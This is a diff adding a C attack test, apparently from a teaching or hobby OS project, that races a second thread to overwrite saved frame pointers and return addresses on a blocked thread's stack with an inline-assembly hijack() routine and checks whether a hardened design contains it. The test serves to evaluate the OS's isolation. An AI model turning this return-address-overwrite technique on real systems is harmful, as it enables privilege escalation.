@@ -1,0 +1,138 @@
+/* a_stackrace: a second thread rewrites the stack under a running service.
+ *
+ * Plain Design B runs the service on the caller's stack: while thread A is
+ * blocked in sleep, the OS's C frames -- saved EBPs and return addresses into
+ * OS text (0xC01xxxxx), and the return into the stub page -- lie on A's app
+ * stack, which thread B (here: the main thread) can write.  B walks A's stack
+ * region, and wherever a word points into OS text and the word below it
+ * points into the same stack (a saved EBP: the OS is compiled with frame
+ * pointers), or a word points into the stub pages, it writes the address of
+ * hijack().  When A wakes, the OS's own RET lands in hijack() with DS = DSOS:
+ * hijack() reads DS and a word of OS text through it (result=HIJACKED).
+ * That is the known weakness of plain Design B (DESIGN.md §6).
+ *
+ * Hardened Design B moves SS:ESP to a per-thread stack in the OS region
+ * before calling the service: no OS frame is on A's stack.  B does the same
+ * walk (it finds nothing of the OS's) and also overwrites the one return
+ * address there is -- the stub's return into A's own code -- so A does
+ * arrive in hijack(), but after the stub has put DSAPP back: DS = DSAPP
+ * (result=contained).  Works the same under QEMU and Bochs.
+ * Prints ATTACK name=stackrace_plainB ... and ATTACK name=stackrace_hardB ... */
+#include "attack.h"
+
+#define STK 16384
+#define SLEEP_TICKS 30
+
+uint32_t hj_ds, hj_word, hj_read, hj_stack_top, hj_hits;
+static uint32_t hj_stack[1024];
+static volatile int a_returned, a_ret_value;
+
+void hijack(void);
+void hijack_report(void);
+asm(".text\n"
+    ".globl hijack\n"
+    "hijack:\n"
+    "  movl %ds, %eax\n"
+    "  movzwl %ax, %eax\n"
+    "  movl %eax, %ss:hj_ds\n"              /* SS is DSAPP in either design */
+    "  cmpl $0x23, %eax\n"
+    "  je 1f\n"
+    "  testl $0xfffc, %eax\n"
+    "  jz 1f\n"
+    "  movl 0xC0100000, %ecx\n"             /* OS text through DS */
+    "  movl %ecx, %ss:hj_word\n"
+    "  movl $1, %ss:hj_read\n"
+    "1:\n"
+    "  movl $0x23, %eax\n"
+    "  movl %eax, %ds\n"
+    "  movl %eax, %es\n"
+    "  movl hj_stack_top, %esp\n"
+    "  call hijack_report\n"
+    "2: jmp 2b\n");
+
+void hijack_report(void)
+{
+    hj_hits++;
+    klos_thread_exit(0);
+}
+
+/* Thread A: one blocking call, through the stub at *arg; the return site is
+ * a global label so that B knows the app's own return address. */
+void thread_a(void *stub);
+asm(".text\n"
+    ".globl thread_a\n"
+    "thread_a:\n"
+    "  movl 4(%esp), %eax\n"
+    "  pushl $" "30" "\n"                   /* SLEEP_TICKS */
+    "  call *%eax\n"
+    ".globl a_ret_site\n"
+    "a_ret_site:\n"
+    "  addl $4, %esp\n"
+    "  movl %eax, a_ret_value\n"
+    "  movl $1, a_returned\n"
+    "  pushl $0\n"
+    "  call thread_a_exit\n");
+extern char a_ret_site[];
+
+void thread_a_exit(void)
+{
+    klos_thread_exit(0);
+}
+
+struct scan {
+    int os_text, chain, stub, app_ret, written;
+};
+
+static void walk(uint32_t *lo, uint32_t *hi, int hit_app_ret, struct scan *s)
+{
+    for (uint32_t *w = lo + 1; w < hi; w++) {
+        uint32_t v = *w, below = w[-1];
+        int os_text = v >= OS_TEXT && v < SVC_B_BASE;
+        int stub = v >= SVC_B_BASE && v < SVC_A_BASE + 4096;
+        int chain = os_text && below > (uint32_t)w && below < (uint32_t)hi;
+        int app_ret = v == (uint32_t)a_ret_site;
+        s->os_text += os_text;
+        s->chain += chain;
+        s->stub += stub;
+        s->app_ret += app_ret;
+        if (chain || stub || (app_ret && hit_app_ret)) {
+            *w = (uint32_t)hijack;
+            s->written++;
+        }
+    }
+}
+
+static void race(const char *name, uint32_t stub)
+{
+    uint32_t *stk = malloc(STK);
+    if (!stk) {
+        printf("ATTACK name=%s result=ERROR why=malloc\n", name);
+        return;
+    }
+    memset(stk, 0, STK);
+    hj_ds = hj_word = hj_read = hj_hits = 0;
+    a_returned = 0;
+    int tid = klos_thread_create((void *)thread_a, (void *)stub, (uint8_t *)stk + STK);
+    if (tid < 0) {
+        printf("ATTACK name=%s result=ERROR why=thread_create:%d\n", name, tid);
+        return;
+    }
+    sleep(SLEEP_TICKS / 3);                     /* A is now blocked in the service */
+    struct scan s = { 0, 0, 0, 0, 0 };
+    walk(stk, stk + STK / 4, 1, &s);
+    int j = klos_thread_join(tid);
+    int hijacked = hj_hits && hj_read && hj_ds != SEL_DSAPP;
+    printf("ATTACK name=%s os_text_words=%d saved_ebp_chain=%d stub_words=%d app_ret_words=%d "
+           "overwritten=%d join=%d reached_hijack=%u ds_in_hijack=0x%x os_word=%08x "
+           "a_returned_normally=%d result=%s\n",
+           name, s.os_text, s.chain, s.stub, s.app_ret, s.written, j, hj_hits, hj_ds, hj_word,
+           a_returned, hijacked ? "HIJACKED" : "contained");
+}
+
+int main(void)
+{
+    hj_stack_top = (uint32_t)&hj_stack[1024];
+    race("stackrace_plainB", SVC_B_ADDR(SVC_sleep));
+    race("stackrace_hardB", SVC_H_ADDR(SVC_sleep));
+    return 0;
+}
